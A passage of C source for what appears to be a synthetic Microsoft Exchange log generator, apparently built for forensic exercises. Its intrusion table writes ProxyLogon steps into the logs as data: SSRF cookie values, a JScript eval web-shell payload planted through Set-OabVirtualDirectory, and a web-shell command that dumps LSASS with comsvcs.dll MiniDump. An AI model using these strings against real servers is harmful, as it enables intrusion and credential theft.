		q->stem = SL("/Microsoft-Server-ActiveSync/default.eas");
		c = PL(c, "Cmd=");
		c = pz(c, cmd);
		c = PL(c, "&User=");
		c = pz(c, u->sam);
		c = PL(c, "&DeviceId=");
		c = pz(c, u->dev);
		c = u->android ? PL(c, "&DeviceType=Android") : PL(c, "&DeviceType=iPhone");
		q->query = BCAT(q->b_query, (Str){tmp, (size_t)(c - tmp)});
		q->proxied = true;
		q->proto = P_EAS;
		q->ua = u->phone_ua;
		q->cip = sz(u->phone_ip);
		set_user_auth(q, u, false);
		q->authtype = SL("Basic");
		q->anchor = BCAT(q->b_anchor, SL("Smtp~"), sz(u->upn));
		q->rhint = SL("Smtp-UrlLogonName");
		q->action = sz(cmd);
		q->tt = cmd[0] == 'P' ? rrange(r, 300000, 900000) : rrange(r, 20, 1500);
		q->backend = rpm(r, 150);
		q->be_user = q->iis_user;
		q->req_bytes = rrange(r, 150, 4000);
		q->resp_bytes = rrange(r, 0, 30000);
		break;
	}
	case T_AUTOD:
		q->method = "POST";
		q->stem = SL("/Autodiscover/Autodiscover.xml");
		q->proxied = true;
		q->proto = P_AUTOD;
		q->ua = u->ews_ua == UA_ACCOUNTSD ? UA_ACCOUNTSD : UA_OUTLOOK;
		set_user_auth(q, u, false);
		q->authtype = SL("Negotiate");
		q->anchor = BCAT(q->b_anchor, SL("Smtp~"), sz(u->upn));
		q->rhint = SL("Smtp-AutodiscoverRequestBody");
		q->chal = first && rpm(r, 600);
		q->backend = rpm(r, 300);
		q->be_user = SL("CONTOSO\\EXCH01$");
		q->tt = rrange(r, 30, 400);
		q->req_bytes = rrange(r, 350, 600);
		q->resp_bytes = rrange(r, 3000, 6000);
		break;
	case T_OAB: {
		char *c = tmp;
		c = PL(c, "/OAB/");
		c = pz(c, OAB_GUID);
		c = first ? PL(c, "/oab.xml") : PL(c, "/data-1.lzx");
		q->stem = BCAT(q->b_stem, (Str){tmp, (size_t)(c - tmp)});
		q->proxied = true;
		q->proto = P_OAB;
		q->ua = UA_OUTLOOK;
		set_user_auth(q, u, false);
		q->authtype = SL("Negotiate");
		q->anchor = BCAT(q->b_anchor, SL("OAB~"), sz(OAB_GUID));
		q->rhint = SL("OABGuid-OabGuid");
		q->tt = rrange(r, 5, 200);
		q->backend = rpm(r, 500);
		q->be_user = SL("CONTOSO\\EXCH01$");
		q->resp_bytes = first ? rrange(r, 800, 2000) : rrange(r, 20000, 900000);
		break;
	}
	case T_ECP_USER:
	case T_ECP_ADMIN: {
		char can[96];
		Rng cr; /* the canary belongs to the session */
		rng_seed(&cr, s->seed);
		char *c = canary(can, &cr);
		Str cs = {can, (size_t)(c - can)};
		q->method = "POST";
		q->proxied = true;
		q->proto = P_ECP;
		q->ua = u->browser;
		set_user_auth(q, u, false);
		q->hp_user = sz(u->upn);
		q->authtype = SL("Negotiate");
		q->anchor = BCAT(q->b_anchor, SL("Sid~"), sz(u->sid));
		q->rhint = SL("Sid-EcpCookie");
		q->cookie_srv = SL(HOST_FQDN);
		q->tt = rrange(r, 40, 1500);
		q->backend = true;
		q->be_user = q->iis_user;
		q->ecp = true;
		if (type == T_ECP_USER) {
			q->stem = SL("/ecp/RulesEditor/InboxRules.svc/GetList");
			q->referer = SL("https://" HOST_PUB "/ecp/?rfr=owa&p=customize/rules.slab");
			q->ecp_cmd = rpm(r, 900) ? SL("Get-InboxRule")
			                         : SL("New-InboxRule.Name='Newsletters'.MoveToFolder='Newsletters'");
			q->query = BCAT(q->b_query, SL("msExchEcpCanary="), cs);
		} else {
			q->stem = SL("/ecp/DDI/DDIService.svc/GetList");
			q->referer = SL("https://" HOST_PUB "/ecp/");
			q->ecp_cmd = sz(PICK(r, ECP_ADMIN_CMDS));
			q->query = BCAT(q->b_query, SL("msExchEcpCanary="), cs, SL("&schema=MailboxService"));
		}
		q->ecp_url = BCAT(q->b_url, q->stem, SL("?"), q->query);
		q->req_bytes = rrange(r, 400, 2000);
		q->resp_bytes = rrange(r, 1000, 40000);
		break;
	}
	case T_RPC:
		q->method = seq ? "RPC_OUT_DATA" : "RPC_IN_DATA";
		q->stem = SL("/rpc/rpcproxy.dll");
		q->query = BCAT(q->b_query, sz(u->mbx), SL("@contoso.com:6001"));
		q->proxied = true;
		q->proto = P_RPC;
		q->ua = UA_MSRPC;
		set_user_auth(q, u, false);
		q->authtype = SL("Ntlm");
		q->anchor = BCAT(q->b_anchor, SL("MailboxGuidWithDomain~"), sz(u->mbx), SL("@contoso.com"));
		q->rhint = SL("RpcHttpMailboxGuid-UrlParameter");
		q->tt = rrange(r, 60000, 900000);
		q->req_bytes = rrange(r, 1000, 1048576);
		q->resp_bytes = rrange(r, 1000, 400000);
		break;
	case T_PS_ADMIN:
	default:
		q->method = "POST";
		q->stem = SL("/powershell");
		q->query = G.patched ? SL("serializationLevel=Full;ExchClientVer=15.1.2176.9;clientApplication="
		                          "ManagementShell;TargetServer=;PSVersion=5.1.17763.1490")
		                     : SL("serializationLevel=Full;ExchClientVer=15.1.2176.2;clientApplication="
		                          "ManagementShell;TargetServer=;PSVersion=5.1.17763.1490");
		q->proxied = true;
		q->proto = P_PS;
		q->ua = UA_WINRM;
		set_user_auth(q, u, false);
		q->authtype = SL("Kerberos");
		q->anchor = G.patched ? SL("ServerVersion~Version 15.1 (Build 2176.9)") : SL("ServerVersion~Version 15.1 (Build 2176.2)");
		q->rhint = SL("ExchClientVer-ServerCookie");
		q->cookie_srv = SL(HOST_FQDN);
		q->action = first ? SL("Connect") : SL("Get-Mailbox:Command");
		q->tt = rrange(r, 20, 3000);
		q->backend = true;
		q->be_user = q->iis_user;
		break;
	}
	if (q->proxied && !q->be_status)
		q->be_status = q->status;
}

/* Background: health probes, scanners, night-time phone pings. */
static void gen_background(Req *q, Rng *r)
{
	uint32_t k = rbelow(r, 100);
	char tmp[128];
	if (k < 55) { /* Managed Availability probe from the server itself */
		q->local = true;
		q->cip = SL("127.0.0.1");
		q->sip = SL("127.0.0.1");
		q->host = SL("localhost");
		q->ua = UA_AMPROBE;
		q->proxied = true;
		q->iis_user = sz(HM1_DOM);
		q->hp_user = q->iis_user;
		q->isauth = true;
		q->authtype = SL("Negotiate");
		q->anchor = BCAT(q->b_anchor, SL("Smtp~"), sz(HM1), SL("@contoso.local"));
		q->rhint = SL("Smtp-ExplicitLogon");
		q->backend = rpm(r, 500);
		q->be_user = SL("CONTOSO\\EXCH01$");
		q->tt = rrange(r, 10, 300);
		switch (rbelow(r, 6)) {
		case 0:
			q->stem = SL("/owa/");
			q->proto = P_OWA;
			break;
		case 1:
			q->stem = SL("/ecp/");
			q->proto = P_ECP;
			break;
		case 2:
			q->method = "POST";
			q->stem = SL("/EWS/Exchange.asmx");
			q->proto = P_EWS;
			q->action = SL("GetFolder");
			break;
		case 3:
			q->method = "POST";
			q->stem = SL("/Microsoft-Server-ActiveSync/default.eas");
			q->query = BCAT(q->b_query, SL("Cmd=FolderSync&User="), sz(HM1), SL("&DeviceId=AMProbe&DeviceType=AMProbe"));
			q->proto = P_EAS;
			q->action = SL("FolderSync");
			break;
		case 4:
			q->method = "POST";
			q->stem = SL("/Autodiscover/Autodiscover.xml");
			q->proto = P_AUTOD;
			break;
		default:
			q->method = "POST";
			q->stem = SL("/mapi/emsmdb/");
			q->query = BCAT(q->b_query, SL("MailboxId="), sz(DB_GUID), SL("@contoso.local"));
			q->proto = P_MAPI;
			q->action = SL("Connect");
			break;
		}
		q->be_status = 200;
		return;
	}
	if (k < 85) { /* internet noise */
		rand_public_ip(r, q->b_cip, sizeof q->b_cip, true);
		q->cip = sz(q->b_cip);
		static const int uas[] = {UA_ZGRAB, UA_CENSYS, UA_CURL, UA_GO, UA_OLDFF};
		q->ua = PICK(r, uas);
		q->tt = rrange(r, 0, 40);
		uint32_t s = rbelow(r, 100);
		bool xjs_era = q->t >= ms_at(2021, 3, 6, 0, 0, 0, 0);
		if (xjs_era && s < 15) { /* Microsoft's nmap script for CVE-2021-26855 */
			q->stem = SL("/owa/auth/x.js");
			q->ua = UA_NMAP;
			q->proxied = true;
			q->proto = P_OWA;
			q->anchor = SL("ServerInfo~localhost/owa/auth/logon.aspx?~3");
			q->rhint = SL("X-BEResource-Cookie");
			q->rtype = S0;
			q->target = S0;
			q->status = 500;
			q->be_status = 0;
			q->errcode = SL("ServerNotFound");
			q->generr = SL("ServerNotFoundException: Could not find server localhost/owa/auth/logon.aspx?~3");
			return;
		}
		if (s < 45) {
			q->stem = SL("/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application");
			q->ua = UA_ZGRAB;
			q->proxied = true;
			q->proto = P_ECP;
			q->rtype = SL("Random");
			q->resp_bytes = 1734;
			q->be_status = 200;
		} else if (s < 65) {
			q->stem = SL("/");
			q->resp_bytes = 943;
		} else if (s < 80) {
			q->stem = SL("/wp-login.php");
			q->status = 404;
			q->win32 = 2;
		} else if (s < 92) {
			q->stem = SL("/.env");
			q->status = 404;
			q->win32 = 2;
		} else {
			q->stem = SL("/owa/auth/logon.aspx");
			q->query = SL("url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0");
		}
		return;
	}
	/* a phone keeping its ActiveSync Ping alive */
	const User *u = &USERS[rbelow(r, NUSERS)];
	if (!u->phone)
		u = &USERS[1];
	char *c = tmp;
	c = PL(c, "Cmd=Ping&User=");
	c = pz(c, u->sam);
	c = PL(c, "&DeviceId=");
	c = pz(c, u->dev);
	c = u->android ? PL(c, "&DeviceType=Android") : PL(c, "&DeviceType=iPhone");
	q->method = "POST";
	q->stem = SL("/Microsoft-Server-ActiveSync/default.eas");
	q->query = BCAT(q->b_query, (Str){tmp, (size_t)(c - tmp)});
	q->proxied = true;
	q->proto = P_EAS;
	q->ua = u->phone_ua;
	q->cip = sz(u->phone_ip);
	set_user_auth(q, u, false);
	q->authtype = SL("Basic");
	q->anchor = BCAT(q->b_anchor, SL("Smtp~"), sz(u->upn));
	q->rhint = SL("Smtp-UrlLogonName");
	q->action = SL("Ping");
	q->tt = rrange(r, 470000, 900000);
	q->be_status = 200;
}

/* ------------------------------------------------------------------------ */
/* The intrusion                                                             */
/* ------------------------------------------------------------------------ */

enum { AK_IIS, AK_SSRF, AK_PATCH };
enum { SS_AUTOD = 1, SS_MAPI, SS_LOGON, SS_GET, SS_SET, SS_RESET };

typedef struct {
	unsigned mo, d, h, mi, s, ms; /* 2021, UTC */
	int kind, ssrf, ua, status;
	const char *ip, *method, *stem, *query, *stage, *desc;
	uint32_t tt;
	int64_t t; /* filled at start-up */
} Atk;

#define SSRF_PREFIX "ServerInfo~a]@" HOST_FQDN ":444"
static const char *const SSRF_PATH[] = {
    "",
    "/autodiscover/autodiscover.xml?#",
    "/mapi/emsmdb/?#",
    "/ecp/proxyLogon.ecp?#",
    "/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=" ATK_CANARY "&schema=OABVirtualDirectory#",
    "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" ATK_CANARY "&schema=OABVirtualDirectory#",
    "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" ATK_CANARY "&schema=ResetOABVirtualDirectory#",
};
static const char *const SSRF_BE_STEM[] = {"", "/autodiscover/autodiscover.xml", "/mapi/emsmdb/",
                                           "/ecp/proxyLogon.ecp", "/ecp/DDI/DDIService.svc/GetObject",
                                           "/ecp/DDI/DDIService.svc/SetObject",
                                           "/ecp/DDI/DDIService.svc/SetObject"};
static const char *const SSRF_BE_QUERY[] = {"", "", "", "",
                                            "msExchEcpCanary=" ATK_CANARY "&schema=OABVirtualDirectory",
                                            "msExchEcpCanary=" ATK_CANARY "&schema=OABVirtualDirectory",
                                            "msExchEcpCanary=" ATK_CANARY "&schema=ResetOABVirtualDirectory"};

#define IISA(mo_, d_, h_, mi_, s_, ms_, ip_, ua_, m_, stem_, q_, st_, tt_, stage_, desc_)                     \
	{(mo_), (d_), (h_), (mi_), (s_), (ms_), AK_IIS, 0, (ua_), (st_), (ip_), (m_), (stem_), (q_), (stage_), (desc_), \
	 (tt_), 0}
#define SSRFA(mo_, d_, h_, mi_, s_, ms_, ss_, ua_, st_, tt_, stage_, desc_)                                         \
	{(mo_), (d_), (h_), (mi_), (s_), (ms_), AK_SSRF, (ss_), (ua_), (st_), ACTOR_A, "POST", "/ecp/y.js", "", (stage_), \
	 (desc_), (tt_), 0}
#define SCAN(d_, h_, mi_, s_, ip_, ua_, stem_)                                                                        \
	IISA(3, d_, h_, mi_, s_, 0, ip_, ua_, "GET", stem_, "", 404, 15, "scan",                                          \
	     "mass scanner probes for a known web shell")

static Atk ATK[] = {
    IISA(3, 3, 5, 37, 12, 412, ACTOR_A, UA_BAIDU, "POST", "/owa/auth/Current/themes/resources/logon.css", "", 200, 46,
         "recon", "POST to a static OWA file with a Baiduspider user agent"),
    IISA(3, 3, 5, 37, 48, 930, ACTOR_A, UA_BAIDU, "POST", "/owa/auth/Current/themes/resources/logon.css", "", 200, 31,
         "recon", "POST to a static OWA file with a Baiduspider user agent"),
    SSRFA(3, 3, 6, 49, 42, 162, SS_AUTOD, UA_ESC0, 200, 187, "ssrf",
          "CVE-2021-26855 SSRF to /autodiscover/autodiscover.xml (legacyDN disclosure)"),
    SSRFA(3, 3, 6, 49, 43, 540, SS_MAPI, UA_PYREQ, 200, 96, "ssrf", "CVE-2021-26855 SSRF to /mapi/emsmdb (SID disclosure)"),
    SSRFA(3, 3, 6, 49, 46, 71, SS_LOGON, UA_PYREQ, 241, 142, "ssrf",
          "CVE-2021-26855 SSRF to /ecp/proxyLogon.ecp (ECP session as administrator)"),
    SSRFA(3, 3, 6, 49, 51, 318, SS_GET, UA_PYREQ, 200, 531, "oab-abuse",
          "DDIService GetObject OABVirtualDirectory via SSRF"),
    SSRFA(3, 3, 6, 49, 53, 806, SS_SET, UA_PYREQ, 200, 1204, "oab-abuse",
          "CVE-2021-27065: Set-OabVirtualDirectory ExternalUrl with JScript web shell"),
    SSRFA(3, 3, 6, 59, 20, 245, SS_RESET, UA_PYREQ, 200, 2350, "webshell-drop",
          "CVE-2021-27065: Reset-OabVirtualDirectory writes the web shell to owa\\auth"),
    IISA(3, 3, 7, 2, 14, 620, ACTOR_A, UA_PYREQ, "POST", "/owa/auth/" SHELL1 ".aspx", "", 200, 78, "webshell-use",
         "POST to the OAB web shell"),
    IISA(3, 3, 7, 5, 33, 107, ACTOR_A, UA_PYREQ, "POST", "/owa/auth/" SHELL1 ".aspx", "", 200, 112, "webshell-use",
         "POST to the OAB web shell (writes the China Chopper shell in aspnet_client)"),
    IISA(3, 3, 7, 11, 2, 883, ACTOR_A, UA_PYREQ, "POST", "/owa/auth/" SHELL1 ".aspx", "", 200, 65, "webshell-use",
         "POST to the OAB web shell"),
    IISA(3, 3, 7, 13, 40, 2, ACTOR_A, UA_FIREFOX, "GET", "/aspnet_client/system_web/" SHELL2 ".aspx", "cmd=whoami", 200,
         203, "webshell-use", "web shell command: whoami"),
    IISA(3, 3, 7, 15, 5, 517, ACTOR_A, UA_FIREFOX, "GET", "/aspnet_client/system_web/" SHELL2 ".aspx",
         "cmd=powershell+rundll32.exe+C:\\windows\\System32\\comsvcs.dll+MiniDump+" LSASS_PID
         "+C:\\windows\\temp\\lsass.dmp+full",
         200, 4518, "credential-access", "web shell command: LSASS dump with comsvcs.dll MiniDump"),
    IISA(3, 3, 7, 21, 48, 266, ACTOR_A, UA_FIREFOX, "GET", "/aspnet_client/system_web/" SHELL2 ".aspx",
         "cmd=C:\\ProgramData\\VSPerfMon\\7za.exe+a+C:\\ProgramData\\VSPerfMon\\a.7z+C:\\windows\\temp\\lsass.dmp",
         200, 2764, "collection", "web shell command: archive the dump to C:\\ProgramData\\VSPerfMon\\a.7z"),
    IISA(3, 4, 8, 14, 9, 351, ACTOR_B, UA_FF68, "GET", "/owa/auth/" SHELL1 ".aspx", "", 200, 41, "second-actor",
         "second actor checks the OAB web shell"),
    IISA(3, 4, 8, 14, 31, 790, ACTOR_B, UA_ANTSWORD, "POST", "/aspnet_client/system_web/" SHELL2 ".aspx", "", 200, 188,
         "second-actor", "second actor uses the China Chopper shell with antSword"),
    {3, 5, 21, 40, 0, 0, AK_PATCH, 0, UA_NONE, 0, "", "", "", "", "patch",
     "security update installed, build 15.1.2176.9, IIS restarted", 0, 0},
    SCAN(8, 2, 13, 55, "45.77.252.175", UA_PYREQ, "/owa/auth/errorEE.aspx"),
    SCAN(8, 2, 13, 56, "45.77.252.175", UA_PYREQ, "/aspnet_client/xx.aspx"),
    SCAN(8, 14, 40, 3, "194.87.69.35", UA_GO, "/owa/auth/shell.aspx"),
    SCAN(9, 4, 2, 17, "103.77.192.219", UA_OLDFF, "/owa/auth/errorEE.aspx"),
    SCAN(9, 4, 2, 18, "103.77.192.219", UA_OLDFF, "/owa/auth/shell.aspx"),
    SCAN(9, 19, 31, 44, "185.220.101.46", UA_CURL, "/aspnet_client/xx.aspx"),
    SCAN(10, 0, 55, 9, "161.35.45.41", UA_PYREQ, "/owa/auth/shell.aspx"),
    SCAN(10, 11, 8, 30, "45.77.252.175", UA_PYREQ, "/owa/auth/errorEE.aspx"),
    SCAN(11, 6, 21, 12, "89.34.111.11", UA_ZGRAB, "/aspnet_client/xx.aspx"),
    SCAN(11, 6, 21, 13, "89.34.111.11", UA_ZGRAB, "/owa/auth/errorEE.aspx"),
    SCAN(12, 3, 47, 58, "194.87.69.35", UA_GO, "/owa/auth/shell.aspx"),
    SCAN(12, 16, 2, 40, "5.2.69.50", UA_PYREQ, "/aspnet_client/xx.aspx"),
};
#define NATK ((int)(sizeof ATK / sizeof ATK[0]))

static void tl_push(int rec, uint64_t line, int64_t t)
{
	const Atk *a = G.cur_atk;
	if (G.ntl == G.captl) {
		G.captl = G.captl ? G.captl * 2 : 64;
		G.tl = xrealloc(G.tl, G.captl * sizeof *G.tl);
	}
	G.tl[G.ntl++] = (TlEntry){t, a->stage, a->desc, a->ip[0] ? a->ip : "", rec, line};
}

static void restart_iis(int64_t t, int fields);

static void emit_attack(const Atk *a)
{
	Req q;
	Rng r;
	rng_seed(&r, mix3(0xA77AC4, (uint64_t)a->t, 7)); /* same in every seed */
	req_init(&q, &r, a->t);
	G.cur_atk = a;
	if (a->kind == AK_PATCH) {
		G.patched = true;
		/* Services restart: IIS writes fresh header blocks, Exchange rolls its logs.
		 * The timeline points at the "#Software" line of each new header block. */
		if (G.want_iis) {
			for (int be = 0; be < 2; be++) {
				Out *o = be ? &G.o_iis2 : &G.o_iis1;
				if (o->f) {
					const FileRec *r0 = &G.recs[o->rec];
					tl_push(o->rec, r0->data + r0->hdr + 1, a->t);
					iis_header(o, a->t, be ? 0 : G.iis1_fields);
				} else {
					iis_out(be, a->t); /* first log of the day: its header is the restart */
					tl_push(o->rec, 1, a->t);
				}
			}
		}
		for (int p = 0; p < P_N; p++)
			out_close(&G.o_hp[p]);
		out_close(&G.o_rps);
		G.hp_gen = 2;
		G.cur_atk = NULL;
		return;
	}
	q.cip = sz(a->ip);
	q.method = a->method;
	q.stem = sz(a->stem);
	q.query = sz(a->query);
	q.ua = a->ua;
	q.status = a->status;
	q.win32 = a->status == 404 ? 2 : 0;
	q.tt = a->tt;
	if (a->kind == AK_SSRF) {
		q.proxied = true;
		q.proto = P_ECP;
		q.backend = true;
		q.be_stem = sz(SSRF_BE_STEM[a->ssrf]);
		q.be_user = a->ssrf >= SS_GET ? SL("CONTOSO\\Administrator") : SL("CONTOSO\\EXCH01$");
		q.anchor = BCAT(q.b_anchor, SL(SSRF_PREFIX), sz(SSRF_PATH[a->ssrf]));
		q.target = BCAT(q.b_target, SL("a]@" HOST_FQDN ":444"), sz(SSRF_PATH[a->ssrf]));
		q.rhint = SL("X-BEResource-Cookie");
		q.rtype = S0;
		q.be_status = a->status;
		q.req_bytes = a->ssrf >= SS_SET ? 2100 : 412;
		q.resp_bytes = a->ssrf == SS_AUTOD ? 4130 : 1022;
		if (a->ssrf >= SS_GET) {
			q.ecp = true;
			q.ecp_url = BCAT(q.b_url, sz(SSRF_BE_STEM[a->ssrf]), SL("?"), sz(SSRF_BE_QUERY[a->ssrf]));
			if (a->ssrf == SS_GET)
				q.ecp_cmd = SL("Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null");
			else if (a->ssrf == SS_SET)
				q.ecp_cmd = SL("Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" "
				               "runat=\"server\">function Page_Load(){eval(Request[\"" SHELL1_PW
				               "\"],\"unsafe\");}</script>'.Identity='" OABVD_GUID "'");
			else
				q.ecp_cmd = SL("Reset-OabVirtualDirectory.Identity='" OABVD_GUID "'.FilePathName='" SHELL1_UNC "'");
		}
		/* In the back end the SSRF target keeps its own query string. */
		if (G.want_iis) {
			write_iis(&q, false, false);
			Req b = q;
			b.query = sz(SSRF_BE_QUERY[a->ssrf]);
			write_iis(&b, true, false);
		}
		if (G.want_hp)
			write_hp(&q, false);
		if (G.want_misc && q.ecp)
			write_ecp(&q);
		if (G.want_misc && a->ssrf == SS_RESET)
			write_oab(a->t + 1187, "Warning",
			          SL("Download failed and temporary file '" SHELL1_UNC "' needs to be removed"));
	} else if (G.want_iis) {
		write_iis(&q, false, false);
	}
	G.last_t = a->t;
	G.cur_atk = NULL;
}

/* ------------------------------------------------------------------------ */
/* Scheduled non-request events: restarts, OAB runs, PowerShell probes       */
/* ------------------------------------------------------------------------ */

enum { SK_ATTACK, SK_RESTART, SK_OAB, SK_RPS, SK_RPS_ADMIN };
typedef struct {
	int64_t t;
	int kind, arg;
} Sched;

static void restart_iis(int64_t t, int fields)
{
	if (!G.want_iis)
		return;
	G.iis1_fields = fields;
	if (G.o_iis1.f)
		iis_header(&G.o_iis1, t, fields);
	if (G.o_iis2.f)
		iis_header(&G.o_iis2, t, 0);
}

static void oab_run(int64_t t, Rng *r)
{
	if (!G.want_misc)
		return;
	char msg[256];
	uint32_t n = 300 + rbelow(r, 40), secs = rrange(r, 4, 30);
	write_oab(t, "Info", SL("OAB generation started for '\\Default Offline Address Book'"));
	int k = snprintf(msg, sizeof msg,
	                 "Processed %u address list entries for '\\Default Offline Address Book'", n);
	write_oab(t + 1000 * secs / 2 + rbelow(r, 500), "Info", (Str){msg, (size_t)k});
	k = snprintf(msg, sizeof msg,
	             "OAB generation completed for '\\Default Offline Address Book'; elapsed time 00:00:%02u", secs);
	write_oab(t + 1000 * secs + rbelow(r, 900), "Info", (Str){msg, (size_t)k});
}

static const RpsCmd RPS_PROBE[] = {
    {"Get-Mailbox", "-ResultSize \"1\"", "-ResultSize \"1\""},
    {"Get-ExchangeServer", "-Identity \"EXCH01\"", "-Identity \"<Identity>\""},
    {"Get-OrganizationConfig", "", ""},
};
static const RpsCmd RPS_ADMIN[] = {
    {"Get-Mailbox", "-ResultSize \"Unlimited\"", "-ResultSize \"Unlimited\""},
    {"Get-MailboxDatabase", "-Status \"True\"", "-Status \"True\""},
    {"Get-MessageTrackingLog", "-Sender \"billing@fabrikam.com\" -ResultSize \"1000\"",
     "-Sender \"<Sender>\" -ResultSize \"1000\""},
    {"Get-Queue", "", ""},
};

static void rps_event(int64_t t, Rng *r, bool admin, int arg)
{
	if (!G.want_misc && !G.want_iis)
		return;
	/* The probe talks to the back end directly: W3SVC2 and the cmdlet log. */
	Req q;
	req_init(&q, r, t);
	q.method = "POST";
	q.stem = SL("/powershell");
	q.query = admin ? SL("serializationLevel=Full;clientApplication=ManagementShell;PSVersion=5.1.17763.1490")
	                : SL("clientApplication=ActiveMonitor;PSVersion=5.1.14393.4104");
	q.ua = UA_WINRM;
	q.tt = rrange(r, 20, 400);
	q.be_user = admin ? sz(USERS[0].dom) : sz(HM1_DOM);
	if (G.want_iis)
		write_iis(&q, true, false);
	if (G.want_misc) {
		const RpsCmd *c = admin ? &RPS_ADMIN[rbelow(r, 4)] : &RPS_PROBE[arg % 3];
		write_rps(t, r, c, q.be_user, admin ? sz(USERS[0].sid) : sz(HM1_SID),
		          admin ? "ManagementShell" : "ActiveMonitor");
	}
	G.last_t = t;
}

/* ------------------------------------------------------------------------ */
/* Day and hour generation                                                   */
/* ------------------------------------------------------------------------ */

static int sched_cmp(const void *a, const void *b)
{
	const Sched *x = a, *y = b;
	if (x->t != y->t)
		return x->t < y->t ? -1 : 1;
	if (x->kind != y->kind)
		return x->kind - y->kind;
	return x->arg - y->arg; /* total order: qsort need not be stable */
}

/* Request keys: ms offset in the hour << 40 | session << 8 | position in
 * session.  Stable LSD radix sort on the 22 offset bits (two 11-bit passes),
 * so requests at the same millisecond keep their generation order. */
#define KEY_SHIFT 40
static void sort_keys(uint64_t *a, uint64_t *tmp, size_t n)
{
	if (n < 48) {
		for (size_t i = 1; i < n; i++) {
			uint64_t v = a[i];
			size_t j = i;
			while (j && (a[j - 1] >> KEY_SHIFT) > (v >> KEY_SHIFT)) {
				a[j] = a[j - 1];
				j--;
			}
			a[j] = v;
		}
		return;
	}
	for (int pass = 0; pass < 2; pass++) {
		size_t cnt[2049] = {0};
		int sh = KEY_SHIFT + pass * 11;
		uint64_t *src = pass ? tmp : a, *dst = pass ? a : tmp;
		for (size_t i = 0; i < n; i++)
			cnt[((src[i] >> sh) & 2047) + 1]++;
		for (int i = 0; i < 2048; i++)
			cnt[i + 1] += cnt[i];
		for (size_t i = 0; i < n; i++)
			dst[cnt[(src[i] >> sh) & 2047]++] = src[i];
	}
}

/* Expected count (scaled by 1e6) to an integer with randomized rounding. */
static uint64_t round_count(Rng *r, uint64_t scaled)
{
	return scaled / 1000000 + (rbelow(r, 1000000) < scaled % 1000000 ? 1 : 0);
}

static void close_hour_files(void)
{
	for (int p = 0; p < P_N; p++)
		out_close(&G.o_hp[p]);
	out_close(&G.o_rps);
	G.hp_gen = 1;
}

/* Background traffic (probes, scanners, phone pings) per hour, per mille of --rate. */
#define BG_PERMILLE 50

static int64_t FIELDS_DAY = -1; /* absolute day of the #Fields change */

static void gen_day(int64_t day)
{
	G.day = day;
	int64_t ds = day * MS_DAY;
	int wd = (int)((day + 4) % 7); /* 0 = Sunday */
	bool weekend = wd == 0 || wd == 6;
	Rng dr;
	rng_seed(&dr, mix3(G.seed, (uint64_t)day, 0xDA7));

	Sched sc[256];
	int ns = 0;
	for (int i = 0; i < NATK; i++)
		if (ATK[i].t >= ds && ATK[i].t < ds + MS_DAY)
			sc[ns++] = (Sched){ATK[i].t, SK_ATTACK, i};
	bool patch_day = ATK[0].t >= 0 && ds <= ms_at(2021, 3, 5, 21, 40, 0, 0) && ms_at(2021, 3, 5, 21, 40, 0, 0) < ds + MS_DAY;
	if (day == FIELDS_DAY) {
		sc[ns++] = (Sched){ds + ms_at(1970, 1, 1, 10, 17, 23, 0), SK_RESTART, 1};
		sc[ns++] = (Sched){ds + ms_at(1970, 1, 1, 16, 42, 5, 0), SK_RESTART, 0};
	} else if (!patch_day && rpm(&dr, 180)) {
		int64_t sec = rrange(&dr, 1 * 3600, 5 * 3600 - 1);
		sc[ns++] = (Sched){ds + sec * 1000 + rbelow(&dr, 1000), SK_RESTART, 0};
	}
	for (int k = 0; k < 3; k++) /* OAB generation every eight hours */
		sc[ns++] = (Sched){ds + (3 + 8 * k) * MS_HOUR + rrange(&dr, 1000, 60000), SK_OAB, 0};
	for (int h = 1; h < 24; h += 8) { /* PowerShell probe every eight hours, a few cmdlets */
		int64_t t0 = ds + h * MS_HOUR + rbelow(&dr, (uint32_t)(MS_HOUR - 120000));
		int n = 2 + (int)rbelow(&dr, 2);
		for (int k = 0; k < n; k++)
			sc[ns++] = (Sched){t0 + k * 20000 + rbelow(&dr, 15000), SK_RPS, k};
	}
	if (!weekend && rpm(&dr, 350)) { /* the admin uses the Exchange Management Shell */
		int64_t hh = rrange(&dr, 8, 16);
		sc[ns++] = (Sched){ds + hh * MS_HOUR + rbelow(&dr, (uint32_t)MS_HOUR), SK_RPS_ADMIN, 0};
	}
	qsort(sc, (size_t)ns, sizeof sc[0], sched_cmp);

	int si = 0;
	Req *q = xrealloc(NULL, sizeof *q); /* once per day, not per line */
	for (int h = 0; h < 24; h++) {
		int64_t hs = ds + h * MS_HOUR;
		G.hour_start = hs;
		Rng hr;
		rng_seed(&hr, mix3(G.seed, (uint64_t)(day * 24 + h), 0x4011));
		uint64_t wk = weekend ? 250 : 1000;
		uint64_t jit = 850 + rbelow(&hr, 301);
		/* expected human requests (scaled 1e6) / mean session length = sessions */
		uint64_t nsh = round_count(&hr, G.rate * CURVE[h] * wk * jit / MEAN_SESS_MILLI);
		uint64_t nb = round_count(&hr, G.rate * BG_PERMILLE * 1000 * (900 + rbelow(&hr, 201)) / 1000);
		/* nsh human sessions, then nb one-request background sessions. */
		size_t nsess = 0, n = 0;
		while (nsh || nb) {
			if (nsess + 1 > G.scap) {
				G.scap = G.scap ? G.scap * 2 : 1024;
				G.sess = xrealloc(G.sess, G.scap * sizeof(Sess));
			}
			Sess *se = (Sess *)G.sess + nsess;
			se->seed = rnext(&hr);
			se->bg = nsh == 0;
			unsigned len = 1;
			if (se->bg) {
				nb--;
				se->type = 0;
				se->user = 0;
				se->flag = false;
			} else {
				uint32_t k = rbelow(&hr, HUMAN_CUM[T_NHUMAN - 1]);
				int ty = 0;
				while (k >= HUMAN_CUM[ty])
					ty++;
				int user = (ty == T_ECP_ADMIN || ty == T_PS_ADMIN) ? 0 : pick_user(&hr);
				if (ty == T_EAS && !USERS[user].phone)
					ty = T_MAPI;
				se->type = (uint16_t)ty;
				se->user = (uint16_t)user;
				se->flag = ty == T_OWA && rpm(&hr, 350);
				len = rrange(&hr, SESS[ty].len_lo, SESS[ty].len_hi);
				if (se->flag && len < 5)
					len = 5;
				nsh--;
			}
			if (n + len > G.kcap) {
				G.kcap = (n + len) * 2;
